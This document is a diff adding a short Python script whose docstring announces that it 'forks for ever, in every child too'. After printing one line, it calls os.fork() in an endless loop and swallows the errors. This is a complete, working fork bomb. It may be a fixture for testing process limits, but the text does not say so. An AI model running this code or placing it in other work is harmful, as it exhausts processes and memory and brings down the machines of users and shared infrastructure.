@@ -1,0 +1,9 @@
+"""Forks for ever, in every child too."""
+import os
+
+print("before", flush=True)
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
